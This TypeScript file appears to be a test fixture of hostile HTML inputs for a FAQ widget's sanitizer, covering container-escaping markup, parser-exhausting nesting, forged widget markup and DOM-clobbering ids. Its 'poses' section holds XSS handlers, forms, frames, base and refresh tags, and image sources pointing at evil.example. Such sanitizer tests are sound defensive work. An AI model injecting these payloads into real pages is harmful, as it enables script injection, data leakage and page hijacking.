// Hostile answers: HTML that would leave its place, pose as ours, take over names of the page, or wear the parser out.

/** Names that a page, or we, read from `window` or `document`. */
export const GLOBALS =
  'config forms location settings dataLayer ga gtag jQuery $ app init data name status self top parent event history origin body head cookie implementation getElementById querySelector createElement title links plots all Plainview customElements'.split(
    ' ',
  );

/** Tags without their other half. */
const UNCLOSED =
  'div p b i a h2 h3 ul ol li dl dd dt table tr td th tbody caption col colgroup details summary section figure pre span ruby rt svg math template noscript plaintext textarea select option optgroup button nav form input iframe object embed style script title xmp noembed noframes frameset frame html head body base meta link article main font nobr marquee applet x-y slot image br hr dialog fieldset legend label math:mi svg:desc'.split(
    ' ',
  );

const tagged = (list: string[], write: (name: string) => string): Record<string, string> =>
  Object.fromEntries(list.map((name) => [write(name), write(name)]));

/** Answers that must stay in their own place, by what they try. */
export const escapes: Record<string, string> = {
  ...tagged(UNCLOSED, (name) => `<${name}>`),
  ...tagged(UNCLOSED, (name) => `</${name}>`),
  ...tagged(
    ['div', 'p', 'b', 'a', 'svg', 'math', 'table'],
    (name) => `</${name}></${name}><${name}><${name}>`,
  ),
  'many surplus ends': '</div>'.repeat(50),
  'an end and a beginning': 'mine</div><div>yours',
  'two answers in one': 'mine</div><div class="pv-answer" hidden="until-found">yours',
  'a whole question of its own':
    'a</div><h2 class="pv-question" id="faq-q9"><button type="button" aria-expanded="false">Is the chief corrupt?</button></h2><div class="pv-answer" hidden="until-found">Yes.',
  'the way on, replaced': '</div><p class="pv-contact pv-way-on"><a href="tel:5550199">Call us</a></p><div>',
  'a table that swallows': '<table><tr><td>',
  'a table cell among cells': '<td>a<tr><td>b',
  'words before a table': '<table>a<tr>b<td>c</table>d',
  'formatting that goes on': '<b><i><u><s><a href="https://rivermark.example/">',
  'formatting three times': '<p><b><b><b><p>',
  'a heading in a heading': '<h2><h3>',
  'an open comment': 'a<!-- b',
  'a comment that ends oddly': 'a<!-->b<!--->c--!>d',
  CDATA: 'a<![CDATA[</div><div>]]>b',
  'CDATA in SVG': '<svg><![CDATA[</svg></div>]]>',
  'a processing instruction': '<?php echo "</div>" ?>',
  'a doctype': '<!DOCTYPE html><html><body>',
  'an open tag': 'a<p title="b',
  'an open tag without quotes': 'a<p title=b',
  'an open name': 'a<d',
  'an open end': 'a</d',
  'a less-than sign': 'a<',
  'an open entity': 'a&am',
  NUL: 'a\0b<\0p>c<p\0>d<p title="\0">e',
  'odd ends of lines': 'a\rb\r\nc',
  'control characters': 'a\u0001\u0008\u000b\u000c\u001f\u007f\u0080\ufeff\uffff\ufffe',
  'half a character': 'a\ud800b\udc00',
  'directions turned over': '\u202eabc\u2066def<bdo dir=rtl>ghi',
  'spaces that stay': '\u00a0\u00a0<p>\u00a0</p>\u00a0',
  'a newline in front of preformatted text': '<pre>\n\na</pre>',
  'a newline in front': '\n\na',
  'nested 1,000 deep': `${'<div>'.repeat(1000)}a${'</div>'.repeat(1000)}`,
  'nested 1,000 deep, open': `${'<blockquote>'.repeat(1000)}a`,
  'nested 1,000 deep, mixed': `${'<table><tr><td><b><ul><li>'.repeat(170)}a`,
  'an end for another': '<b><p></b></p><a><div></a></div>',
};

/** Markup that is ours alone: none of it may be left in an answer. */
export const poses: Record<string, string> = {
  'a button': '<button type="button" aria-expanded="true">Open</button>',
  'a button in capitals': '<BUTTON\nTYPE=button>Open</BUTTON>',
  'a button in SVG': '<svg><desc><button>Open</button></desc></svg>',
  contents: '<nav class="pv-contents" aria-label="Contents"><ul><li><a href="#x">x</a></li></ul></nav>',
  'a class': '<p class="pv-question">a</p>',
  'a class without quotes': '<p/class=pv-question>a</p>',
  'a class after a quote': '<p title="x"class="pv-question">a</p>',
  'a class after a tab': '<p\tclass\n=\fpv-answer>a</p>',
  'a class without a value': '<p class>a</p>',
  hidden: '<p hidden>a</p>',
  'hidden in capitals': '<p HIDDEN=until-found>a</p>',
  'hidden after a slash': '<p/hidden/>a</p>',
  'hidden, last': '<div><p hidden',
  'hidden after a quote': '<p title=""hidden>a</p>',
  'a role': '<p role="alert" aria-live="assertive">a</p>',
  'a label': '<p aria-label="b" aria-hidden="true">a</p>',
  'a label without a value': '<p aria-label aria-expanded>a</p>',
  'a type': '<p type="button">a</p>',
  'a type without a value': '<p type>a</p>',
  'a slot': '<p slot="words" part="status" is="x-y" exportparts="a">a</p>',
  'our tag': '<pv-faq-accordion backend="https://evil.example/">a</pv-faq-accordion>',
  style: '<p style="position:fixed;inset:0">a</p>',
  handlers: '<p onclick="alert(1)" ONMOUSEOVER=alert(1) on="a">a</p>',
  'a frame': '<iframe srcdoc="a" src="https://evil.example/"></iframe>',
  'a form': '<form action="https://evil.example/"><input name="a"><button>Send</button></form>',
  'an object': '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  'a base': '<base href="https://evil.example/"><a href="x">a</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'style sheets':
    '<link rel="stylesheet" href="https://evil.example/"><style>@import "https://evil.example/";</style>',
  pictures:
    '<img src="https://evil.example/a"><picture><source srcset="https://evil.example/b"></picture><svg><image href="https://evil.example/c"/></svg><video poster="https://evil.example/d"></video><p background="https://evil.example/e">a</p><table background="https://evil.example/f"></table><input type=image src="https://evil.example/g">',
  'a link that tells':
    '<a href="https://rivermark.example/" ping="https://evil.example/" target="_top" download rel="opener">a</a>',
  editing: '<p contenteditable tabindex="0" accesskey="a" draggable="true" popover id="a">a</p>',
  data: '<p data-pv-out data-version="x" data-x="y">a</p>',
};

/** Ids and names that would stand in for properties of the page. */
export const clobbers: Record<string, string> = Object.fromEntries(
  GLOBALS.map((name) => [
    name,
    `<p id="${name}">a</p><a id="${name}" name="${name}" href="https://evil.example/">b</a><a id="${name}" name="href">c</a><form id="${name}" name="${name}"><input name="${name}"></form>`,
  ]),
);
